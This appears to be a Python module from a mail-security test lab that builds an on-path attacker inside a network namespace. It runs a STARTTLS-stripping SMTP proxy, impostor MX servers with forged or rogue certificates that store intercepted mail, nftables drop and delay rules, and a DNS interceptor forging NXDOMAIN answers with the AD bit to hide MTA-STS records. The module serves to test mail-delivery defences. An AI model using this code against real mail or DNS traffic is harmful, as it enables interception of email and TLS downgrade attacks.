"""The on-path attacker of the lab: attacks switched on per target inside the ``<prefix>-attk`` router namespace.

The attacker's namespace sits between the sender and the internet (:mod:`mxsec.lab.topology`) and forwards
every packet unchanged until an attack is switched on. Each attack is a few nftables rules in the table
``ip mxsec_attk`` of that namespace (``redirect`` to a local port, or ``drop``) and, where needed, a small
asyncio server living there (recorded like every lab process, so ``mxsec lab down`` stops it):

================  ===============================================================================================
kind              what happens to new connections / queries to the targets
================  ===============================================================================================
strip-starttls    TCP to ``IP[:25]`` goes to an SMTP proxy that relays to the real server in clear, removes
                  ``STARTTLS`` from the EHLO reply and answers ``454`` if the client sends STARTTLS anyway
forged-cert       TCP to ``IP[:25]`` goes to an impersonating MX for ``NAME`` (target ``IP=NAME``): STARTTLS
                  with a certificate for the right name from a CA nobody trusts (``cert="self-signed"``: a
                  self-signed one); it accepts and stores every message
rogue-mx          TCP to ``IP[:25]`` goes to the attacker's own MX, ``rogue.attacker.test``, whose certificate
                  is valid (lab CA) for that name only — an attacker with a real certificate for its own domain
drop              TCP and UDP to ``IP:PORT`` are dropped (e.g. the resolver ``198.51.100.53:53``, a policy host
                  ``:443``)
delay             TCP to ``IP:PORT`` goes to a relay that waits ``seconds`` before connecting to the real server
                  (no netem in this kernel, so the delay is done in user space)
dns               DNS to the resolver goes through an interceptor: queries for the target names (and names
                  below them) are dropped, answered NXDOMAIN or delayed (``action``); everything else is relayed
sts-record        the ``dns`` interceptor answers NXDOMAIN (``action="drop"``: nothing) to ``_mta-sts.<domain>``
                  TXT queries: the MTA-STS record "disappears" after a policy was cached
================  ===============================================================================================

The NXDOMAIN the interceptor makes up carries the AD bit: the lab's stubs trust the resolver across the
network (``options trust-ad``), which is exactly what an on-path attacker between stub and resolver exploits.

API::

    attack(topo, "strip-starttls", ["203.0.113.10"])           -> dict (the attack's record)
    attack(topo, "forged-cert", ["203.0.113.10=mx1.example.test"], cert="untrusted")
    attack(topo, "delay", ["203.0.113.11:443"], seconds=6)
    attack(topo, "sts-record", ["example.test"])
    active(topo) -> list[dict]; clear(topo) -> list[str]       (rules removed, attack servers stopped)
    rogue_received(topo) -> list[Received]                     (what the impersonators stored)
    strip_sessions(topo) -> list[dict]                         (what the STARTTLS stripper relayed)

Established connections keep their path when an attack is switched on or off (conntrack); each message's
delivery attempt opens new ones, so attacks apply from the next attempt on.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import re
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from mxsec.fsutil import make_dirs
from mxsec.lab import state as lab_state
from mxsec.lab import topology
from mxsec.lab.topology import LabError, Topology

__all__ = [
    "KINDS",
    "ROGUE_MX",
    "Target",
    "active",
    "attack",
    "clear",
    "rogue_received",
    "strip_sessions",
]

KINDS = ("strip-starttls", "forged-cert", "rogue-mx", "drop", "delay", "dns", "sts-record")
DNS_ACTIONS = ("drop", "nxdomain", "delay")
ROGUE_MX = "rogue.attacker.test"
TABLE = "mxsec_attk"
FIRST_PORT = 10025
DNS_PORT = 10053  # the interceptor (one per lab: all rules in one file)
SO_ORIGINAL_DST = 80
_NAME_RE = re.compile(r"[a-z0-9_](?:[a-z0-9_-]{0,62})(?:\.[a-z0-9_](?:[a-z0-9_-]{0,62}))*")


@dataclass(frozen=True)
class Target:
    """``IP``, ``IP:PORT`` or ``IP=NAME`` / ``IP:PORT=NAME`` (the name an impersonator claims)."""

    address: str
    port: int | None = None
    name: str | None = None

    @classmethod
    def parse(cls, text: str) -> Target:
        import ipaddress

        addr, _, name = text.partition("=")
        host, sep, port = addr.partition(":")
        try:
            ipaddress.IPv4Address(host)
            number = int(port) if sep else None
        except ValueError as exc:
            raise LabError(f"bad attack target {text!r}: use IP, IP:PORT or IP=NAME") from exc
        if number is not None and not 0 < number < 65536:
            raise LabError(f"bad attack target {text!r}: port out of range")
        return cls(host, number, name.strip().lower().rstrip(".") or None)


def _dir(topo: Topology) -> Path:
    return topo.state_dir / "attacker"


def _nft(topo: Topology, script: str) -> None:
    """Run an nft script in the attacker's namespace, the table and its two chains declared first (declaring
    what exists already changes nothing)."""
    table = f"""table ip {TABLE} {{
  chain prerouting {{ type nat hook prerouting priority dstnat; policy accept; }}
  chain forward {{ type filter hook forward priority filter; policy accept; }}
}}
"""
    topology.check_in(topo.attk_ns, ["nft", "-f", "-"], input=table + script)


def active(topo: Topology) -> list[dict[str, Any]]:
    st = lab_state.load(topo.prefix)
    return list(st.extra.get("attacker", {}).get("attacks", [])) if st else []


def _next_port(topo: Topology) -> int:
    with lab_state.update(topo.prefix) as st:
        att = st.extra.setdefault("attacker", {"attacks": [], "next_port": FIRST_PORT})
        port = int(att.get("next_port", FIRST_PORT))
        att["next_port"] = port + 1
    return port


def _record(topo: Topology, rec: dict[str, Any]) -> None:
    with lab_state.update(topo.prefix) as st:
        att = st.extra.setdefault("attacker", {"attacks": [], "next_port": FIRST_PORT})
        att.setdefault("attacks", []).append(rec)


def _redirect_rules(targets: Sequence[Target], default_port: int, local_port: int) -> list[str]:
    return [f"add rule ip {TABLE} prerouting ip daddr {t.address} tcp dport {t.port or default_port} "
            f"redirect to :{local_port}" for t in targets]


def _spawn(topo: Topology, name: str, argv: list[str], ready: Path, timeout: float = 30.0) -> int:
    from mxsec.lab.runner import _spawn_and_wait

    ready.unlink(missing_ok=True)
    log = ready.with_suffix(".log")
    _spawn_and_wait(topo, topo.attk_ns, name, argv, log, ready.exists, timeout)
    st = lab_state.load(topo.prefix)
    return next(p.pid for p in reversed(st.processes) if p.name == name) if st else 0


def attack(topo: Topology, kind: str, targets: Iterable[str | Target] = (), *, seconds: float = 6.0,
           cert: str = "untrusted", action: str = "nxdomain", qtype: str | None = None) -> dict[str, Any]:
    """Switch one attack on (see the module docstring); returns its record (also kept in the lab state)."""
    if kind not in KINDS:
        raise LabError(f"unknown attack {kind!r}; one of {', '.join(KINDS)}")
    if not topology.exists(topo) or not (topology.NETNS_DIR / topo.attk_ns).exists():
        raise LabError(f"lab {topo.prefix!r} is not up (no {topo.attk_ns})")
    raw = list(targets)
    if not raw:
        raise LabError(f"attack {kind}: give at least one target")
    work = _dir(topo)
    make_dirs(work, 0o755)
    rec: dict[str, Any] = {"kind": kind, "targets": [str(t) if not isinstance(t, Target) else _fmt(t) for t in raw],
                           "started": time.time()}
    if kind in ("dns", "sts-record"):
        if action not in DNS_ACTIONS or (kind == "sts-record" and action == "delay"):
            raise LabError(f"attack {kind}: action must be one of {', '.join(DNS_ACTIONS)}")
        names = [str(t).strip().lower().rstrip(".") for t in raw]
        bad = [n for n in names if not _NAME_RE.fullmatch(n)]
        if bad:
            raise LabError(f"attack {kind}: not a domain name: {', '.join(map(repr, bad))}")
        if kind == "sts-record":
            names = [f"_mta-sts.{n}" for n in names]
            qtype = "TXT"
        rules = [{"name": n, "qtype": qtype, "action": action, "seconds": seconds} for n in names]
        _add_dns_rules(topo, rules)
        rec.update(action=action, qtype=qtype, names=names)
        _record(topo, rec)
        return rec
    tgts = [t if isinstance(t, Target) else Target.parse(t) for t in raw]
    if kind == "drop":
        missing = [_fmt(t) for t in tgts if t.port is None]
        if missing:
            raise LabError(f"attack drop: give IP:PORT ({', '.join(missing)})")
        _nft(topo, "".join(f"add rule ip {TABLE} forward ip daddr {t.address} {proto} dport {t.port} drop\n"
                           for t in tgts for proto in ("tcp", "udp")))
        _record(topo, rec)
        return rec
    port = _next_port(topo)
    ready = work / f"{kind}-{port}.ready"
    py = [sys.executable, "-m", "mxsec.lab.attacker"]
    if kind == "strip-starttls":
        argv = [*py, "strip", "--listen", str(port), "--log", str(work / "strip.jsonl"), "--ready", str(ready)]
        default_port = 25
    elif kind == "delay":
        missing = [_fmt(t) for t in tgts if t.port is None]
        if missing:
            raise LabError(f"attack delay: give IP:PORT ({', '.join(missing)})")
        argv = [*py, "delay", "--listen", str(port), "--seconds", str(seconds), "--ready", str(ready)]
        default_port = 0
    else:  # forged-cert, rogue-mx: an MX farm of impostors in the attacker's namespace
        from mxsec.lab.runner import LabPaths

        if kind == "forged-cert":
            if cert not in ("untrusted", "self-signed"):
                raise LabError("attack forged-cert: cert must be 'untrusted' or 'self-signed'")
            unnamed = [_fmt(t) for t in tgts if not t.name]
            if unnamed:
                raise LabError(f"attack forged-cert: give IP=NAME, the name to impersonate ({', '.join(unnamed)})")
            if len({t.name for t in tgts}) != len(tgts):
                raise LabError("attack forged-cert: one target per name")

        def impersonated(t: Target) -> str:  # every forged-cert target has a name (checked above)
            return t.name if kind == "forged-cert" and t.name else ROGUE_MX

        # one impostor per name, each on its own local port
        impostors = [impersonated(t) for t in tgts] if kind == "forged-cert" else [ROGUE_MX]
        ports = {n: (port if i == 0 else _next_port(topo)) for i, n in enumerate(impostors)}
        kind_of_cert = cert if kind == "forged-cert" else "valid"
        specs = [{"name": n, "address": "0.0.0.0", "cert_kind": kind_of_cert, "port": p} for n, p in ports.items()]
        spec_file = work / f"rogue-{port}.json"
        spec_file.write_text(json.dumps(specs, indent=1), encoding="utf-8")
        rogue = work / "rogue"
        make_dirs(rogue, 0o755)
        pid = _spawn(topo, f"attack:{kind}:{port}",
                     [sys.executable, "-m", "mxsec.lab.mx", "--spec", str(spec_file), "--mail-dir", str(rogue),
                      "--ca-dir", str(LabPaths.of(topo).ca_dir), "--ready-file", str(ready)], ready)
        redirects = [f"add rule ip {TABLE} prerouting ip daddr {t.address} tcp dport {t.port or 25} "
                     f"redirect to :{ports[impersonated(t)]}" for t in tgts]
        _nft(topo, "\n".join(redirects) + "\n")
        rec.update(pid=pid, ports=ports, cert=kind_of_cert)
        _record(topo, rec)
        return rec
    pid = _spawn(topo, f"attack:{kind}:{port}", argv, ready)
    _nft(topo, "\n".join(_redirect_rules(tgts, default_port, port)) + "\n")
    rec.update(pid=pid, port=port)
    if kind == "delay":
        rec["seconds"] = seconds
    _record(topo, rec)
    return rec


def _fmt(t: Target) -> str:
    return t.address + (f":{t.port}" if t.port else "") + (f"={t.name}" if t.name else "")


def _add_dns_rules(topo: Topology, rules: list[dict[str, Any]]) -> None:
    work = _dir(topo)
    rules_file = work / "dns-rules.json"
    old = json.loads(rules_file.read_text()) if rules_file.exists() else []
    tmp = rules_file.with_suffix(".tmp")
    tmp.write_text(json.dumps(old + rules, indent=1), encoding="utf-8")
    os.replace(tmp, rules_file)
    st = lab_state.load(topo.prefix)
    running = st is not None and any(p.name == "attack:dns" and topology._alive(p.pid) for p in st.processes)
    if not running:
        ready = work / "dns.ready"
        _spawn(topo, "attack:dns",
               [sys.executable, "-m", "mxsec.lab.attacker", "dns", "--listen", str(DNS_PORT), "--rules",
                str(rules_file), "--resolver", topo.resolver_ip, "--log", str(work / "dns.jsonl"),
                "--ready", str(ready)], ready)
        ip = topo.resolver_ip
        _nft(topo, f"add rule ip {TABLE} prerouting ip daddr {ip} udp dport 53 redirect to :{DNS_PORT}\n"
                   f"add rule ip {TABLE} prerouting ip daddr {ip} tcp dport 53 redirect to :{DNS_PORT}\n")


def clear(topo: Topology) -> list[str]:
    """Switch every attack off: delete the nftables table, stop the attack servers. Idempotent."""
    done: list[str] = []
    if (topology.NETNS_DIR / topo.attk_ns).exists():
        proc = topology.run_in(topo.attk_ns, ["nft", "delete", "table", "ip", TABLE],
                               stdout=_devnull(), stderr=_devnull())
        if proc.wait(20) == 0:
            done.append(f"removed nftables table {TABLE} in {topo.attk_ns}")
    st = lab_state.load(topo.prefix)
    if st is None:
        return done
    victims = [p for p in st.processes if p.name.startswith("attack:")]
    for p in victims:
        if topology._alive(p.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(p.pid, signal.SIGTERM)
    deadline = time.monotonic() + 5
    for p in victims:
        while topology._alive(p.pid) and time.monotonic() < deadline:
            topology._reap()
            time.sleep(0.02)
        if topology._alive(p.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(p.pid, signal.SIGKILL)
        done.append(f"stopped {p.name} (pid {p.pid})")
    with lab_state.update(topo.prefix) as st2:
        st2.processes = [p for p in st2.processes if not p.name.startswith("attack:")]
        att = st2.extra.get("attacker")
        if att:
            att["attacks"] = []
    (_dir(topo) / "dns-rules.json").unlink(missing_ok=True)
    return done


def _devnull() -> Any:
    import subprocess

    return subprocess.DEVNULL


def rogue_received(topo: Topology) -> list[Any]:
    """Every message an impostor (forged-cert, rogue-mx) stored, over all attacks since ``lab up``."""
    from mxsec.lab.mx import read_received

    rogue = _dir(topo) / "rogue"
    out: list[Any] = []
    for d in sorted(rogue.iterdir()) if rogue.is_dir() else ():
        if d.is_dir():
            out += read_received(rogue, d.name)
    return out


def strip_sessions(topo: Topology) -> list[dict[str, Any]]:
    """The STARTTLS stripper's session records (one JSON line per relayed connection)."""
    return _jsonl(_dir(topo) / "strip.jsonl")


def dns_log(topo: Topology) -> list[dict[str, Any]]:
    """What the DNS interceptor did with each query that matched a rule."""
    return _jsonl(_dir(topo) / "dns.jsonl")


def _jsonl(path: Path) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    try:
        text = path.read_text(errors="replace")
    except OSError:
        return out
    for line in text.splitlines():
        with contextlib.suppress(ValueError):
            out.append(json.loads(line))
    return out


# ============================================================================================ servers (attk ns)


def _original_dst(sock: socket.socket) -> tuple[str, int]:
    raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    port = struct.unpack("!H", raw[2:4])[0]
    return socket.inet_ntoa(raw[4:8]), port


def _append(path: Path | None, rec: dict[str, Any]) -> None:
    if path is None:
        return
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    try:
        os.write(fd, (json.dumps(rec) + "\n").encode())
    finally:
        os.close(fd)


def _now() -> str:
    import datetime as dt

    return dt.datetime.now(dt.UTC).isoformat(timespec="milliseconds")


def strip_reply(lines: list[bytes]) -> tuple[list[bytes], bool]:
    """One complete SMTP reply (its lines) without a ``STARTTLS`` line, continuation marks fixed."""
    kept = [ln for ln in lines if ln[4:].strip().upper() != b"STARTTLS"]
    if len(kept) == len(lines) or not kept:
        return lines, False
    code = kept[0][:3]
    out = [code + b"-" + ln[4:] for ln in kept[:-1]] + [code + b" " + kept[-1][4:]]
    return out, True


async def _close(writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(Exception):
        writer.close()
        await asyncio.wait_for(writer.wait_closed(), 2)


async def _strip_session(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, log: Path | None) -> None:
    sock = writer.get_extra_info("socket")
    peer = writer.get_extra_info("peername")
    rec: dict[str, Any] = {"started_at": _now(), "client": peer[0] if peer else None, "server": None,
                           "starttls_removed": 0, "starttls_refused": 0, "data_sent": 0, "helo": None}
    try:
        ip, port = _original_dst(sock)
        rec["server"] = f"{ip}:{port}"
        ur, uw = await asyncio.wait_for(asyncio.open_connection(ip, port), 10)
    except (OSError, TimeoutError) as exc:
        rec["error"] = f"{type(exc).__name__}: {exc}"
        _append(log, rec)
        await _close(writer)
        return

    async def down() -> None:  # server → client
        lines: list[bytes] = []
        while True:
            line = await ur.readline()
            if not line:
                return
            lines.append(line)
            if len(line) >= 4 and line[3:4] == b"-":
                continue
            out, removed = strip_reply(lines)
            rec["starttls_removed"] += int(removed)
            lines = []
            writer.write(b"".join(out))
            await writer.drain()

    async def up() -> None:  # client → server
        data_mode = False
        while True:
            line = await reader.readline()
            if not line:
                return
            if data_mode:
                uw.write(line)
                if line in (b".\r\n", b".\n"):
                    data_mode = False
                    rec["data_sent"] += 1
                await uw.drain()
                continue
            cmd = line.strip().upper()
            if cmd == b"STARTTLS":
                rec["starttls_refused"] += 1
                writer.write(b"454 4.7.0 TLS not available due to temporary reason\r\n")
                await writer.drain()
                continue
            if cmd.startswith((b"EHLO", b"HELO")) and rec["helo"] is None:
                rec["helo"] = line.strip()[5:].decode(errors="replace")
            if cmd == b"DATA":
                data_mode = True
            uw.write(line)
            await uw.drain()

    try:
        await _relay(down(), up(), uw, writer)
    finally:
        rec["ended_at"] = _now()
        _append(log, rec)


async def _relay(one: Any, other: Any, *writers: asyncio.StreamWriter) -> None:
    """Run the two directions of a relayed session until either ends (or 300 s pass), then stop the other
    and close both sides."""
    tasks = [asyncio.ensure_future(one), asyncio.ensure_future(other)]
    try:
        await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED, timeout=300)
    finally:
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        for w in writers:
            await _close(w)


async def _pipe(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
    while True:
        data = await r.read(65536)
        if not data:
            return
        w.write(data)
        await w.drain()


async def _delay_session(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, seconds: float) -> None:
    try:
        ip, port = _original_dst(writer.get_extra_info("socket"))
        await asyncio.sleep(seconds)
        ur, uw = await asyncio.wait_for(asyncio.open_connection(ip, port), 10)
    except (OSError, TimeoutError):
        await _close(writer)
        return
    await _relay(_pipe(reader, uw), _pipe(ur, writer), uw, writer)


class _Rules:
    """The DNS interceptor's rules, re-read when the file changes."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.mtime = -1.0
        self.rules: list[dict[str, Any]] = []

    def match(self, qname: str, qtype: str) -> dict[str, Any] | None:
        try:
            mtime = self.path.stat().st_mtime
        except OSError:
            mtime = 0.0
        if mtime != self.mtime:
            self.mtime = mtime
            try:
                self.rules = json.loads(self.path.read_text()) if mtime else []
            except (OSError, ValueError):
                self.rules = []
        name = qname.lower().rstrip(".")
        for rule in self.rules:
            rn = rule["name"]
            if (name == rn or name.endswith("." + rn)) and rule.get("qtype") in (None, qtype):
                return rule
        return None


def _forge_nxdomain(wire: bytes) -> bytes | None:
    import dns.flags
    import dns.message
    import dns.rcode

    try:
        query = dns.message.from_wire(wire)
    except Exception:  # noqa: BLE001 - not our business: drop
        return None
    resp = dns.message.make_response(query)
    resp.set_rcode(dns.rcode.NXDOMAIN)
    resp.flags |= dns.flags.RA | dns.flags.AD
    return resp.to_wire()


def _question(wire: bytes) -> tuple[str, str] | None:
    import dns.message
    import dns.rdatatype

    try:
        q = dns.message.from_wire(wire)
        return q.question[0].name.to_text(), dns.rdatatype.to_text(q.question[0].rdtype)
    except Exception:  # noqa: BLE001 - garbage: relayed as is
        return None


async def _dns_decide(wire: bytes, rules: _Rules, log: Path | None) -> str:
    """"relay", "drop" or "nxdomain" (after a delay rule's sleep: "relay")."""
    q = _question(wire)
    if q is None:
        return "relay"
    rule = rules.match(*q)
    if rule is None:
        return "relay"
    _append(log, {"at": _now(), "qname": q[0], "qtype": q[1], "action": rule["action"]})
    if rule["action"] == "delay":
        await asyncio.sleep(float(rule.get("seconds", 6)))
        return "relay"
    return rule["action"]


def _udp_exchange(wire: bytes, resolver: str, timeout: float = 10.0) -> bytes | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.sendto(wire, (resolver, 53))
        try:
            return s.recvfrom(65535)[0]
        except OSError:
            return None


class _DnsUdp(asyncio.DatagramProtocol):
    def __init__(self, rules: _Rules, resolver: str, log: Path | None) -> None:
        self.rules, self.resolver, self.log = rules, resolver, log
        self.transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]  # a datagram endpoint gets a DatagramTransport

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        asyncio.ensure_future(self._answer(data, addr))

    async def _answer(self, data: bytes, addr: tuple[str, int]) -> None:
        what = await _dns_decide(data, self.rules, self.log)
        if what == "drop":
            return
        reply = (_forge_nxdomain(data) if what == "nxdomain"
                 else await asyncio.to_thread(_udp_exchange, data, self.resolver))
        if reply is not None and self.transport is not None:
            self.transport.sendto(reply, addr)


async def _dns_tcp(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, rules: _Rules, resolver: str,
                   log: Path | None) -> None:
    try:
        for _ in range(100):  # bounded: queries per connection
            head = await asyncio.wait_for(reader.readexactly(2), 30)
            wire = await reader.readexactly(struct.unpack("!H", head)[0])
            what = await _dns_decide(wire, rules, log)
            if what == "drop":
                return
            if what == "nxdomain":
                reply = _forge_nxdomain(wire)
            else:
                ur, uw = await asyncio.wait_for(asyncio.open_connection(resolver, 53), 10)
                try:
                    uw.write(head + wire)
                    await uw.drain()
                    n = struct.unpack("!H", await asyncio.wait_for(ur.readexactly(2), 10))[0]
                    reply = await ur.readexactly(n)
                finally:
                    await _close(uw)
            if reply is None:
                return
            writer.write(struct.pack("!H", len(reply)) + reply)
            await writer.drain()
    except (OSError, TimeoutError, asyncio.IncompleteReadError):
        pass
    finally:
        await _close(writer)


async def _serve(args: argparse.Namespace) -> None:
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    for signum in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(signum, stop.set)
    log = Path(args.log) if getattr(args, "log", None) else None
    closers: list[Any] = []
    if args.cmd == "strip":
        srv = await asyncio.start_server(lambda r, w: _strip_session(r, w, log), "0.0.0.0", args.listen,
                                         reuse_address=True)
        closers.append(srv)
    elif args.cmd == "delay":
        srv = await asyncio.start_server(lambda r, w: _delay_session(r, w, args.seconds), "0.0.0.0", args.listen,
                                         reuse_address=True)
        closers.append(srv)
    else:
        rules = _Rules(Path(args.rules))
        transport, _ = await loop.create_datagram_endpoint(lambda: _DnsUdp(rules, args.resolver, log),
                                                           local_addr=("0.0.0.0", args.listen))
        closers.append(transport)
        srv = await asyncio.start_server(lambda r, w: _dns_tcp(r, w, rules, args.resolver, log), "0.0.0.0",
                                         args.listen, reuse_address=True)
        closers.append(srv)
    Path(args.ready).write_text(str(os.getpid()))
    print(f"mxsec lab attacker {args.cmd} on :{args.listen}", flush=True)
    await stop.wait()
    for c in closers:
        c.close()


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m mxsec.lab.attacker",
                                     description="attack servers (run inside the lab's attacker namespace)")
    sub = parser.add_subparsers(dest="cmd", required=True)
    for name in ("strip", "delay", "dns"):
        p = sub.add_parser(name)
        p.add_argument("--listen", type=int, required=True)
        p.add_argument("--ready", required=True)
        p.add_argument("--log")
        if name == "delay":
            p.add_argument("--seconds", type=float, default=6.0)
        if name == "dns":
            p.add_argument("--rules", required=True)
            p.add_argument("--resolver", required=True)
    args = parser.parse_args(argv)
    try:
        asyncio.run(_serve(args))
    except OSError as exc:
        print(f"mxsec lab attacker: {exc}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
